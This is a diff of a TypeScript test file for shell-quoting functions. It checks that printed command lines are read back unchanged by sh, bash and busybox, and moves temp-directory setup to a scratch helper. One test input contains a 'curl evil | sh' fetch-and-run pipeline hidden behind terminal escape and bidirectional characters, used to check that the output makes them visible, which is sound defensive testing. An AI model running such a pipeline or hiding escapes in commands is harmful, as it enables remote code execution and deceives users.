@@ -1,11 +1,11 @@
 /** Printed command lines mean to a shell what dt means by them. */
-import { afterAll, beforeAll, describe, expect, test } from "bun:test";
-import { chmodSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
-import { tmpdir } from "node:os";
+import { beforeAll, describe, expect, test } from "bun:test";
+import { chmodSync, symlinkSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import fc from "fast-check";
 import { visible } from "../../src/sys/text/visible.ts";
 import { quoteCommand, quoteWord, showCommand } from "../../src/values/commandline.ts";
+import { makeScratch } from "../kit/scratch.ts";
 
 const SHELLS = ["sh", "bash", "busybox"].filter((name) => Bun.which(name) !== null);
 const PROGRAMS = [
@@ -35,15 +35,15 @@ const PROGRAMS = [
   "\n",
 ];
 
+const scratch = makeScratch();
 let directory: string;
 beforeAll(() => {
-  directory = mkdtempSync(join(tmpdir(), "dt-test-shell-"));
+  directory = scratch();
   const print = join(directory, "print");
   writeFileSync(print, '#!/bin/sh\nprintf "%s\\0" "${0##*/}" "$@"\n');
   chmodSync(print, 0o755);
   for (const name of PROGRAMS) symlinkSync(print, join(directory, name));
 });
-afterAll(() => rmSync(directory, { recursive: true, force: true }));
 
 function run(shell: string, script: string): string[] {
   const command = shell === "busybox" ? ["busybox", "sh"] : [shell];
@@ -56,7 +56,7 @@ function run(shell: string, script: string): string[] {
 
 for (const shell of SHELLS) {
   describe(shell, () => {
-    test("whatever the words are", () => {
+    test("property: a shell reads printed words back unchanged, whatever they are", () => {
       const word = fc.string({ unit: "binary", maxLength: 20 }).filter((text) => !text.includes("\0"));
       // many command lines for one shell: each ends with a word that none of them can hold
       fc.assert(
@@ -113,7 +113,7 @@ for (const shell of KNOWING) {
   });
 }
 
-test("a word with what is not shown as it is", () => {
+test("a word with hidden characters is quoted so that they can be seen", () => {
   expect(showCommand(["sh", "-c", "curl evil | sh\r\x1b[2Kecho 'it\\s'\n", "\u202e", "漢", "it's"])).toBe(
     "sh -c $'curl evil | sh\\r\\033[2Kecho \\047it\\\\s\\047\\n' $'\\342\\200\\256' '漢' 'it'\\''s'",
   );
